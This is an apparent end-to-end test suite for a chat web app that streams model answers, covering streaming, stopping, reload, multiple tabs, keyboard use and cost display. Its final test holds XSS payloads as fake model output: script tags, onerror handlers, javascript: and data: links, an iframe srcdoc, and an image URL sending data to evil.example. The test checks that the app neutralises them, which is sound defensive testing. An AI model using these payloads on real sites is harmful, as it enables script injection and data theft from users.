import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { type TestApp, testApp } from '../support/app.ts';
import { openBrowser } from '../support/browser.ts';
import { answers, waits } from '../support/fake-model.ts';

const MATH =
  'The sum is $e^{i\\pi} + 1 = 0$.\n\n$$\n\\int_0^1 x\\,dx = \\frac12\n$$\n\n- **bold** point\n';

test('a newcomer signs in by one click, asks, and sees the answer with its formulas and its cost', async () => {
  const app = await testApp();
  app.model.answer(
    answers({ texts: [MATH], usage: { prompt_tokens: 100, completion_tokens: 50 } }),
  );
  const page = await signedIn(app);
  await ask(page, 'Show me a formula');

  await page.locator('.katex').nth(1).waitFor();
  await page.getByRole('listitem').filter({ hasText: 'bold point' }).waitFor();
  await page.getByText('0.2 coins').waitFor();
  await page.getByText('100 → 50 tokens').waitFor();
  await page.getByText(/9\.80* coins left/).waitFor();
  await page.getByRole('navigation').getByText('Show me a formula').waitFor();
  expect(new URL(page.url()).pathname).toMatch(/^\/c\/[\w-]+$/);
});

test('a reload in the middle of an answer shows all of it so far, and goes on', async () => {
  const app = await testApp();
  app.model.answer(waits());
  const page = await signedIn(app);
  await ask(page, 'Tell me a story');
  await app.model.says('Once upon a time');
  await page.getByText('Once upon a time').waitFor();

  await page.reload();
  await page.getByText('Once upon a time').waitFor();
  await app.model.says(' there was a lamp.');
  await page.getByText('Once upon a time there was a lamp.').waitFor();
  await app.model.finishes();
  await page.getByRole('list', { name: 'About this answer' }).waitFor();
});

test('stop keeps what was written, and frees the composer', async () => {
  const app = await testApp();
  app.model.answer(waits());
  const page = await signedIn(app);
  await ask(page, 'Count to a million');
  await app.model.says('one two three');
  await page.getByText('one two three').waitFor();

  await page.getByRole('button', { name: /stop/i }).click();
  await app.model.closedByClient();
  await page
    .getByText(/stopped/i)
    .first()
    .waitFor();
  expect(await page.getByText('one two three').isVisible()).toBe(true);
  await composer(page).fill('Go on');
  expect(await composer(page).inputValue()).toBe('Go on');
});

test('a second tab follows: the list, the answer as it streams, and the balance', async () => {
  const app = await testApp();
  app.model.answer(waits());
  const browser = await openBrowser();
  const first = await browser.newPage();
  await first.goto(`${app.url}/devlogin`);
  const second = await browser.newPage();
  await second.goto(app.url);
  await second.getByText(/10(\.0+)? coins left/).waitFor();

  await ask(first, 'Seen from both tabs');
  await second.getByRole('navigation').getByText('Seen from both tabs').click();
  await app.model.says('Both of ');
  await second.getByText('Both of').waitFor();
  await app.model.says('you see this.');
  await app.model.finishes({ usage: { prompt_tokens: 1000, completion_tokens: 500 } });
  await second.getByText('Both of you see this.').waitFor();
  await second.getByText(/8\.0* coins left/).waitFor();
});

test('a failed answer says why, keeps the question, and can be tried again', async () => {
  const app = await testApp();
  await app.model.close();
  const page = await signedIn(app);
  await ask(page, 'Is anybody there?');
  await page.getByRole('alert').first().waitFor();
  expect(await page.getByText('Is anybody there?').first().isVisible()).toBe(true);
});

test('the whole way by keyboard alone', async () => {
  const app = await testApp();
  const browser = await openBrowser();
  const page = await browser.newPage();
  await page.goto(app.url);
  const signIn = page.getByRole('link', { name: /dev@example.com/ });
  await signIn.waitFor();
  for (let presses = 0; presses < 10; presses += 1) {
    await page.keyboard.press('Tab');
    if ((await focused(page))?.includes('dev@example.com')) break;
  }
  await page.keyboard.press('Enter');
  await composer(page).waitFor();
  await page.locator('main textarea:focus').waitFor();
  await page.keyboard.type('First line');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('second line');
  await page.keyboard.press('Enter');
  await page.getByText('Hello, world!').waitFor();
  expect((await app.model.received()).body.messages).toEqual([
    { role: 'user', content: 'First line\nsecond line' },
  ]);
});

test('what is typed survives a reload and a server that refuses it', async () => {
  const app = await testApp();
  const page = await signedIn(app);
  await composer(page).fill('Half a thought');
  await page.reload();
  await expect.poll(() => composer(page).inputValue()).toBe('Half a thought');
});

test('hostile model output runs no script, loads nothing, and leads nowhere', async () => {
  const app = await testApp();
  const hostile = [
    '<script>document.title = "owned"</script><img src=x onerror="document.title=\'owned\'">',
    '![pixel](https://evil.example/?data=1) [click](javascript:document.title="owned")',
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe> <style>*{display:none}</style>',
    '$\\href{javascript:document.title="owned"}{x}$ <a href="data:text/html,<script>1</script>">d</a> end of it',
  ].join('\n\n');
  app.model.answer(answers({ texts: [hostile] }));
  const page = await signedIn(app);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(app.url) && !request.url().startsWith('data:'))
      foreign.push(request.url());
  });
  await ask(page, 'Be evil');
  await page.getByText('end of it').waitFor();
  expect(foreign).toEqual([]);
  expect(await page.title()).not.toContain('owned');
  expect(
    await page
      .locator('a[href^="javascript"], a[href^="data"], iframe, main style, img[src^="http"]')
      .count(),
  ).toBe(0);
});

async function signedIn(app: TestApp): Promise<Page> {
  const browser = await openBrowser();
  const page = await browser.newPage();
  await page.goto(app.url);
  await page.getByRole('link', { name: /dev@example.com/ }).click();
  await composer(page).waitFor();
  return page;
}

const focused = (page: Page): Promise<string | null> => page.locator(':focus').textContent();

const composer = (page: Page) => page.getByRole('main').getByRole('textbox').first();

async function ask(page: Page, text: string): Promise<void> {
  await composer(page).fill(text);
  await composer(page).press('Enter');
}
